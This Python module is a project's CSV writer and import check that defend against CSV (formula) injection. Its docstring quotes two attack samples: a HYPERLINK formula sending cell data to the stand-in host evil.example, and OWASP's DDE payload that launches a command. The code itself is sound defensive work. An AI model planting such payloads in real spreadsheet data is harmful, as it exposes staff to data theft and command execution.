"""The one CSV writer of the project, and the rule for cells a spreadsheet would run.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a formula
(tab and carriage return too, after which some programs skip to the next character), so
text a customer typed, such as a full name `=HYPERLINK("http://evil.example/?"&A2,"Open")`,
would become a live formula in a staff member's spreadsheet (CSV injection). Every CSV the
project writes goes through `csv_lines`, which prefixes such a cell with a single quote, as
OWASP recommends: the program shows the text and runs nothing.

Reading refuses fewer cells than writing quotes: an imported cell is refused as a formula
(`formula_like`) when it starts with `=` or `@`, or when it starts with `+` or `-` and is not
made only of digits, spaces and `. ( ) / -`. So phone numbers (`+33 1 23 45 67 89`,
`+1 (555) 010-0199`) and negative numbers (`-5`, `-0.5`) stay legitimate values, while
`-2+3+cmd|' /C calc'!A0` (OWASP's example) or `+HYPERLINK(...)` are refused.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator

# A spreadsheet runs a cell starting with one of these as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A byte order mark first, so spreadsheet programs read the file as UTF-8 (accented names).
BOM = "\ufeff"
# What a cell starting with + or - may hold and still be a value: a number or a phone number.
_NUMBER_OR_PHONE = re.compile(r"[+-][0-9 .()/-]*")


class _Echo:
    """A file-like object whose write hands back the line, so rows can be streamed."""

    def write(self, value: str) -> str:
        return value


def spreadsheet_cell(value: object) -> str:
    """Return a cell a spreadsheet shows as text: a leading formula character gets a quote."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_START) else text


def csv_lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """Yield a byte order mark, then the CSV text of the rows one line at a time, made safe."""
    writer = csv.writer(_Echo())
    yield BOM
    for row in rows:
        yield writer.writerow([spreadsheet_cell(cell) for cell in row])


def formula_like(text: str) -> bool:
    """Return whether an imported cell reads as a spreadsheet formula (rule in the docstring)."""
    if text.startswith(("=", "@")):
        return True
    return text.startswith(("+", "-")) and _NUMBER_OR_PHONE.fullmatch(text) is None
